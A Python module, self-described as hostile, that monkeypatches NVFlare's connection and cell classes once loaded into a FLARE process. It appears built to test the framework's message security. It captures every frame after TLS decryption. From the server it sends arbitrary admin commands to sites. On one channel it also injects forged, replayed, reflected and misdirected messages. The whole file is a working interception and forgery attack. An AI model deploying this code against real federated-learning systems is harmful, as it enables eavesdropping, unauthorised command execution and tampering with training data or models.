"""Put before a FLARE process on PYTHONPATH, it is hostile. What it does is in the folder HOSTILE:

`sniffed` gets every frame that its cells get, after TLS. `orders.json`, a list of [site, channel, topic, command or
null, body], is sent to sites, and their answers go to `answers.json`. Where there is a file `forge`, a relay also
sends, beside every message of nodes that it forwards, what it made itself; `forged` gets one line for each.
"""

import json
import os
import threading
import time
from pathlib import Path

if "HOSTILE" in os.environ:
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell, Message
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as Key
    from nvflare.fuel.f3.sfm.conn_manager import ConnManager

    folder = Path(os.environ["HOSTILE"])
    folder.mkdir(parents=True, exist_ok=True)
    process_frame, forward, start = ConnManager.process_frame, CoreCell._forward, CoreCell.start
    dump = open(folder / "sniffed", "ab", buffering=0)
    forged = open(folder / "forged", "ab", buffering=0)

    def sniff(self, sfm_conn, frame):
        dump.write(bytes(frame))
        return process_frame(self, sfm_conn, frame)

    def obey(cell):
        from nvflare.private.admin_defs import Message as Command
        from nvflare.private.defs import new_cell_message

        while True:
            time.sleep(0.2)
            if not (folder / "orders.json").exists():
                continue
            answers = []
            for site, channel, topic, command, body in json.loads((folder / "orders.json").read_text()):
                payload = body
                if command is not None:
                    payload = Command(command, body)
                    payload.set_header("job_id", "00000000-0000-4000-8000-000000000000")
                request = new_cell_message({}, payload)
                reply = cell.send_request(channel, topic, site, request, timeout=5.0)
                answers.append([reply.get_header(Key.RETURN_CODE), repr(getattr(reply.payload, "body", reply.payload))])
            (folder / "orders.json").unlink()
            (folder / "answers.part").write_text(json.dumps(answers))
            (folder / "answers.part").rename(folder / "answers.json")

    def watch(self):
        start(self)
        if self.my_info.fqcn == "server":
            threading.Thread(target=obey, args=(self,), daemon=True).start()

    def copy(message, payload=None, **headers):
        made = Message(dict(message.headers), message.payload if payload is None else payload)
        made.headers.update({getattr(Key, name): value for name, value in headers.items()})
        return made

    def send(cell, what, endpoint, origin, destination, kind, message):
        forward(cell, endpoint, origin, destination, kind, message)
        forged.write(f"{what} {kind} {message.get_header(Key.TOPIC)}\n".encode())

    earlier, seen = {}, []

    def meddle(self, endpoint, origin, destination, kind, message):
        ours = message.get_header(Key.CHANNEL) == "sottovoce" and self.my_info.fqcn == "server"
        if ours and (folder / "forge").exists() and message.get_header(Key.TOPIC) in ("message", "model"):
            seen.append(kind)
        if ours and seen and len(seen) % 3 == 0:
            # in clear, in the sender's name: what was captured of a run of the relay's own would pass every checksum
            clear = copy(message, payload=(folder / "forge").read_bytes(), ENCRYPTED=False, SECURE=True)
            send(self, "clear", endpoint, origin, destination, kind, clear)
            half = copy(message, payload=(folder / "forge").read_bytes(), ENCRYPTED=True, SECURE=False)
            send(self, "half", endpoint, origin, destination, kind, half)
            if kind == "req":
                pair = (origin, destination)
                if pair in earlier:  # an earlier message of the same sender, again
                    send(self, "replay", endpoint, origin, destination, kind, copy(earlier[pair]))
                earlier[pair] = copy(message)
                back = copy(message, ORIGIN=destination, DESTINATION=origin)  # its own message, as if from the peer
                send(self, "reflection", endpoint, destination, origin, kind, back)
                other = [d for o, d in earlier if o == origin and d != destination]
                if other:  # meant for someone else
                    moved = copy(message, DESTINATION=other[0])
                    send(self, "misdirected", endpoint, origin, other[0], kind, moved)
        return forward(self, endpoint, origin, destination, kind, message)

    ConnManager.process_frame, CoreCell._forward, CoreCell.start = sniff, meddle, watch
